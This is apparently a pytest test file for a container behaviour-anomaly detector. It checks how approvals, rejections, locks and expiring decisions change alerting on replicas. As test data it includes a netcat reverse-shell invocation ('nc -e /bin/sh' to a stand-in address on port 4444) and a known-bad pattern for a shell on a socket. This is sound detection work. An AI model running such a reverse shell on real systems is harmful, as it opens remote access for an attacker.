"""What somebody decided about a behaviour holds, whatever the replicas do: told or not told, learned or not."""

import gc
from collections.abc import Iterable

import pytest
from detection.cluster import BEGIN, CART, SECOND, Cluster, Replica, alerts, latest
from peerwatch.columns import ProcessFlag

from collector.analysis import behaviour_keys
from collector.analysis.behaviours import context_of, restored
from collector.analysis.curated import CuratedAnalysis
from collector.analysis.findings import Finding
from collector.analysis.groups import Groups
from collector.analysis.volume import Deviation
from collector.records import (
    Action,
    BaselineEntry,
    BehaviourState,
    BehaviourType,
    Change,
    Incident,
    IncidentKind,
    Phase,
    Severity,
)

NC = "/usr/bin/nc <- /usr/bin/server"
PSQL = "/usr/bin/psql <- /usr/bin/server"


def change(
    action: Action, key: str = "", *, at: float = 0, until: float = 0, why: str = "because", by: str = "alice"
) -> Change:
    whole = action in {Action.LOCK, Action.UNLOCK}
    return Change(
        BEGIN + int(at * SECOND),
        CART,
        action,
        by,
        why,
        "" if whole else "app",
        None if whole else BehaviourType.CONNECT if " -> " in key else BehaviourType.EXEC,
        key,
        BEGIN + int(until * SECOND) if until else 0,
    )


def lock(analysis: CuratedAnalysis) -> list[Change]:
    """What the collector makes of a lock."""
    learned = [each for each in analysis.baseline(CART) if each.state is BehaviourState.LEARNED]
    return [change(Action.LOCK), *(change(Action.LIST, each.key) for each in learned)]


class Story:
    """A cluster whose events are told in parts, with decisions between them."""

    def __init__(self, pods: int = 5) -> None:
        self.cluster = Cluster()
        self.pods = self.cluster.pods(pods)
        self.analysis = CuratedAnalysis()
        self.incidents: list[Incident] = []

    def until(self, end: float, *decided: Change) -> "Story":
        """Tell all events up to a time, then decide."""
        self.incidents += self.analysis.observe(self.cluster.table())
        self.cluster.events.clear()
        self.incidents += self.analysis.advance(BEGIN + int(end * SECOND))
        self.analysis.decide(decided)
        return self

    def told(self) -> list[Incident]:
        """Return the alerts since the last call."""
        found = alerts(latest(self.incidents))
        self.incidents.clear()
        return found

    def entries(self) -> dict[str, BaselineEntry]:
        return {each.key: each for each in self.analysis.baseline(CART)}

    def all_run(self, at: float, exe: str, pods: Iterable[Replica] = ()) -> None:
        for pod in pods or self.pods:
            self.cluster.exec(at, pod, exe)


@pytest.fixture
def story() -> Story:
    told = Story()
    told.cluster.normal(told.pods, 0, 90)
    return told


def test_without_a_decision_the_odd_replica_is_told(story: Story) -> None:
    story.cluster.exec(60.5, story.pods[2], "/usr/bin/nc")
    (alert,) = story.until(130).told()
    assert alert.severity is Severity.HIGH


def test_what_is_approved_is_told_of_nobody(story: Story) -> None:
    story.analysis.decide([change(Action.APPROVE, NC)])
    story.cluster.exec(60.5, story.pods[2], "/usr/bin/nc")
    story.cluster.exec(80.5, story.pods[3], "/usr/bin/nc")
    assert story.until(130).told() == []
    entry = story.entries()[NC]
    assert (entry.state, entry.by, entry.why, entry.replicas) == (BehaviourState.APPROVED, "alice", "because", 2)


def test_who_approves_a_program_approves_the_arguments_that_it_had_so_far(story: Story) -> None:
    usual, other = ("nc", "-w", "3", "db", "5432"), ("nc", "-e", "/bin/sh", "203.0.113.9", "4444")
    story.cluster.exec(60.5, story.pods[2], "/usr/bin/nc", args=usual)
    story.until(130)
    assert len(story.told()) == 1

    story.analysis.decide([change(Action.APPROVE, NC, at=130)])
    for at in range(131, 440):
        story.cluster.exec(at, story.pods[at % 5], "/usr/bin/nc", args=usual)
    assert story.until(450).told() == []
    story.cluster.exec(460, story.pods[1], "/usr/bin/nc", args=other)
    (alert,) = story.until(520).told()
    assert [each.example for each in alert.behaviours] == [other]


def test_who_approves_arguments_hears_of_others(story: Story) -> None:
    usual, other = ("nc", "-w", "3", "db", "5432"), ("nc", "-e", "/bin/sh", "203.0.113.9", "4444")
    story.cluster.exec(60.5, story.pods[2], "/usr/bin/nc", args=usual)
    story.until(130)
    (key,) = (each for each in story.entries() if each.startswith(f"{NC} : "))
    story.told()

    story.analysis.decide([change(Action.APPROVE, key, at=130)])
    for at in range(131, 440):
        story.cluster.exec(at, story.pods[at % 5], "/usr/bin/nc", args=usual)
    assert story.until(450).told() == []
    assert story.entries()[NC].state is BehaviourState.APPROVED
    story.cluster.exec(460, story.pods[1], "/usr/bin/nc", args=other)
    assert len(story.until(520).told()) == 1


def test_rejected_arguments_are_told_and_the_program_is_not(story: Story) -> None:
    for number, pod in enumerate(story.pods):
        for at in range(10, 80, 5):
            story.cluster.exec(at + number / 10, pod, "/usr/bin/curl", args=("curl", "-s", "http://db/health"))
    story.until(90)
    (key,) = (each for each in story.entries() if each.startswith("/usr/bin/curl <- /usr/bin/server : "))
    story.told()
    story.analysis.decide([change(Action.REJECT, key, at=90)])
    story.cluster.exec(95, story.pods[0], "/usr/bin/curl", args=("curl", "--version"))
    story.cluster.exec(100, story.pods[0], "/usr/bin/curl", args=("curl", "-s", "http://db/health"))
    (alert,) = story.until(110).told()
    assert [each.key for each in alert.behaviours] == [key]


def test_what_is_approved_while_it_is_held_is_not_told_later(story: Story) -> None:
    story.cluster.exec(80.5, story.pods[2], "/opt/tool/unheard-of")
    story.until(90, change(Action.APPROVE, "/opt/tool/unheard-of <- /usr/bin/server"))
    assert story.until(150).told() == []


def test_an_approval_of_one_layout_is_one_of_the_other(story: Story) -> None:
    story.analysis.decide([change(Action.APPROVE, "/bin/nc <- /bin/server")])
    story.cluster.exec(60.5, story.pods[2], "/usr/bin/nc")
    assert story.until(130).told() == []


def test_what_is_rejected_is_told_though_all_replicas_have_always_done_it(story: Story) -> None:
    assert story.until(90, change(Action.REJECT, PSQL, why="no SQL here")).told() == []
    story.all_run(95, "/usr/bin/psql")
    (alert,) = story.until(100).told()
    assert alert.severity is Severity.HIGH
    assert alert.kind is IncidentKind.NEW_BEHAVIOUR
    assert alert.first_event == BEGIN + 95 * SECOND
    assert {each.pod for each in alert.replicas} == {each.name for each in story.pods}
    assert "rejected by alice: no SQL here" in alert.reason
    assert story.entries()[PSQL].state is BehaviourState.REJECTED


def test_what_is_rejected_and_goes_on_is_one_incident_until_its_cool_down_is_over(story: Story) -> None:
    story.until(90, change(Action.REJECT, PSQL))
    for at in range(100, 1200, 20):
        story.all_run(at, "/usr/bin/psql", story.pods[:1])
        story.until(at)
    first, again = story.until(1300).told()
    assert again.first_event - first.first_event == 900 * SECOND
    assert "again" in again.reason
    assert first.id != again.id


def test_a_restart_does_not_end_a_cool_down(story: Story) -> None:
    rejected = change(Action.REJECT, PSQL)
    story.until(90, rejected)
    story.all_run(100, "/usr/bin/psql", story.pods[:1])
    (first,) = story.until(105).told()

    saved = story.analysis.take_changes()
    story.analysis = CuratedAnalysis()
    story.analysis.decide([rejected])
    story.analysis.restore(saved.replicas, saved.sightings, iter([first]))
    for at in range(110, 990, 20):
        story.all_run(at, "/usr/bin/psql", story.pods[:1])
    assert story.until(995).told() == []

    story.all_run(996, "/usr/bin/psql", story.pods[1:2])  # another replica is told all the same
    (other,) = story.until(997).told()
    assert [each.pod for each in other.replicas] == [story.pods[1].name]
    story.all_run(1001, "/usr/bin/psql", story.pods[:1])
    assert len(story.until(1010).told()) == 1


def test_a_rejection_that_is_taken_back_leaves_no_trace(story: Story) -> None:
    story.until(90, change(Action.REJECT, PSQL))
    story.until(91, change(Action.RESET, PSQL))
    story.all_run(95, "/usr/bin/psql")
    assert story.until(150).told() == []
    entry = story.entries()[PSQL]
    assert (entry.state, entry.by) == (BehaviourState.LEARNED, "")


def test_a_locked_workload_tells_what_all_replicas_begin_to_do(story: Story) -> None:
    story.until(90)
    story.analysis.decide(lock(story.analysis))
    story.all_run(100, "/usr/bin/new-helper")
    story.all_run(101, "/usr/bin/psql")
    (alert,) = story.until(200).told()
    assert [each.key for each in alert.behaviours] == ["/usr/bin/new-helper <- /usr/bin/server"]
    assert alert.severity is Severity.MEDIUM
    assert "not on the list that alice locked" in alert.reason
    entries = story.entries()
    assert entries["/usr/bin/new-helper <- /usr/bin/server"].state is BehaviourState.CANDIDATE
    assert (entries[PSQL].state, entries[PSQL].by) == (BehaviourState.LEARNED, "alice")
    assert [each.phase for each in story.analysis.workloads()] == ["locked"]


def test_a_locked_workload_tells_what_was_only_a_candidate_when_it_was_locked(story: Story) -> None:
    story.cluster.exec(70, story.pods[0], "/usr/bin/rare")
    story.until(90)
    story.told()
    story.analysis.decide(lock(story.analysis))
    story.cluster.exec(120, story.pods[0], "/usr/bin/rare")
    (alert,) = story.until(150).told()
    assert alert.first_event == BEGIN + 120 * SECOND


def test_in_a_locked_workload_what_is_approved_is_normal(story: Story) -> None:
    story.until(90)
    story.analysis.decide([*lock(story.analysis), change(Action.APPROVE, "/usr/bin/new-helper <- /usr/bin/server")])
    story.all_run(100, "/usr/bin/new-helper")
    assert story.until(200).told() == []


def test_an_unlocked_workload_learns_again(story: Story) -> None:
    story.until(90)
    story.analysis.decide([*lock(story.analysis), change(Action.UNLOCK)])
    story.all_run(100, "/usr/bin/new-helper")
    assert story.until(200).told() == []
    assert story.entries()["/usr/bin/new-helper <- /usr/bin/server"].state is BehaviourState.LEARNED


def test_a_locked_workload_bounds_what_a_scan_costs(story: Story) -> None:
    story.until(90)
    story.analysis.decide(lock(story.analysis))
    for number in range(500):
        story.cluster.exec(100 + number / 1000, story.pods[0], f"/opt/x/{chr(97 + number % 26)}{chr(97 + number // 26)}")
    (alert,) = story.until(200).told()
    assert len(alert.behaviours) == 32
    assert "did 499 more unusual things" in alert.reason


def test_an_approval_that_has_ended_is_none(story: Story) -> None:
    story.analysis.decide([change(Action.APPROVE, NC, until=100)])
    story.cluster.exec(60.5, story.pods[2], "/usr/bin/nc")
    assert story.until(99).told() == []
    assert story.entries()[NC].state is BehaviourState.APPROVED

    story.until(101)
    assert story.entries()[NC].state is BehaviourState.EXPIRED
    story.cluster.exec(110, story.pods[2], "/usr/bin/nc")
    (alert,) = story.until(120).told()
    assert alert.severity >= Severity.MEDIUM
    assert "its approval by alice has ended" in alert.reason


def test_decisions_hold_after_a_restart(story: Story) -> None:
    decided = [change(Action.APPROVE, NC), change(Action.REJECT, PSQL)]
    story.until(90, *decided)
    saved = story.analysis.take_changes()

    story.analysis = CuratedAnalysis()
    story.analysis.decide(decided)
    story.analysis.restore(saved.replicas, saved.sightings, [])
    story.told()
    story.cluster.exec(100, story.pods[2], "/usr/bin/nc")
    story.all_run(110, "/usr/bin/psql")
    (alert,) = story.until(200).told()
    assert [each.key for each in alert.behaviours] == [PSQL]


def test_a_decision_about_what_nobody_did_yet_is_listed_and_holds(story: Story) -> None:
    key = "/usr/bin/curl -> shop/db:5432/tcp"
    story.until(90, change(Action.REJECT, key))
    entry = story.entries()[key]
    assert (entry.state, entry.count, entry.of, entry.type) == (BehaviourState.REJECTED, 0, 5, BehaviourType.CONNECT)


def test_baselines_say_in_which_phase_a_behaviour_belongs(story: Story) -> None:
    story.until(90)
    entries = story.entries()
    assert entries["/usr/bin/server"].phases == (Phase.START,)
    assert entries[PSQL].phases == (Phase.START, Phase.STEADY)


def test_completeness_is_singletons_per_time_that_replicas_lived(story: Story) -> None:
    story.until(90)
    (before,) = story.analysis.completeness(CART)
    assert before.settled
    assert before.observed == pytest.approx(5 * 89 * SECOND, rel=0.02)
    # Nothing was seen once only, nothing new came in the later half: half a discovery in half the time is the prior.
    assert before.new_every == pytest.approx(before.observed, rel=0.05)

    for number, pod in enumerate(story.pods):
        story.cluster.exec(100 + number, pod, f"/usr/bin/only-{chr(97 + number)}")
    story.until(200)
    (after,) = story.analysis.completeness(CART)
    assert after.new_every < before.new_every / 5
    assert after.unseen > before.unseen


@pytest.mark.parametrize(("action", "told"), [(Action.APPROVE, 0), (Action.RESET, 1), (Action.LIST, 1)])
def test_an_approval_is_about_how_often_as_well(story: Story, action: Action, told: int) -> None:
    story.until(90, change(Action.LOCK), change(Action.LIST, PSQL), change(action, PSQL))
    group = next(iter(story.analysis._groups.by_place.values()))  # noqa: SLF001 — a deviation of volume takes hours to come about
    behaviour = restored(BehaviourType.EXEC, PSQL, ("psql",), "/usr/bin/server")
    finding = Finding(
        *(group, group.replicas[0], behaviour, story.analysis._verdicts.now, BEGIN),  # noqa: SLF001 — ditto
        *(Severity.MEDIUM, 0.9, IncidentKind.VOLUME_DEVIATION, 4, 0, 0, 0, context_of(behaviour), False),
    )
    story.analysis._verdicts.deviates(Deviation(finding, []))  # noqa: SLF001 — ditto
    assert len(story.until(95).told()) == told


def test_what_is_known_to_be_bad_is_known_by_its_text() -> None:
    analysis = CuratedAnalysis()
    assert analysis.is_known_bad((CART, "app"), BehaviourType.EXEC, "/bin/sh (stdio socket) <- /usr/bin/server")
    assert not analysis.is_known_bad((CART, "app"), BehaviourType.EXEC, PSQL)


@pytest.mark.parametrize(
    "flag", [ProcessFlag.UPPER_LAYER, ProcessFlag.MEMFD, ProcessFlag.STDIO_SOCKET, ProcessFlag.HOST_NAMESPACE]
)
def test_the_marks_of_a_key_are_read_as_they_are_written(flag: ProcessFlag) -> None:
    program = behaviour_keys.program("/bin/x", "x", "/bin/sh", 1 << flag)
    assert restored(BehaviourType.EXEC, f"{program} <- /bin/sh", (), "/bin/sh").flags == 1 << flag


def test_no_part_of_the_analysis_has_groups_that_know_no_decisions() -> None:
    gc.collect()
    before = {id(each) for each in gc.get_objects() if isinstance(each, Groups)}
    analysis = CuratedAnalysis()
    gc.collect()
    made = [each for each in gc.get_objects() if isinstance(each, Groups) and id(each) not in before]
    assert [type(each).__module__ for each in made] == ["collector.analysis.rulings"]
    assert analysis.workloads() == []
